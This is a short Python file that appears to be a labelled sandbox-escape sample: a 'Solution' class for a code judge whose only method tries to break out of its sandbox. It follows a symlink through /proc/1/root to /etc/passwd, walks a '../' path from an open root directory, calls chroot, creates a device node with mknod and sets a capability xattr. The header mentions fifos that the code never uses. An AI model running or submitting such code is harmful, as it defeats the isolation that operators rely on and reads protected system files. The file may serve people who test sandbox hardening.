# Attack: reaches out through links, folders held open and fifos
# Verdict: AC
# Says: refused
import os
from attempt import held


class Solution:
    def whisper(self, n: int) -> str:
        def link():
            os.symlink("/proc/1/root/etc/passwd", f"/tmp/link{n}")
            return open(f"/tmp/link{n}").read()

        def above():
            folder = os.open("/", os.O_RDONLY)
            return os.open("../../../../etc/passwd", os.O_RDONLY, dir_fd=folder)

        def chroot():
            os.mkdir(f"/tmp/jail{n}")
            os.chroot(f"/tmp/jail{n}")
            return "chroot"

        def device():
            os.mknod(f"/tmp/device{n}", 0o20666, os.makedev(1, 1))
            return "device"

        return held(n, link, above, chroot, device, lambda: os.listxattr("/tmp") + ["x"] if os.setxattr("/tmp", "security.capability", b"x") else None)
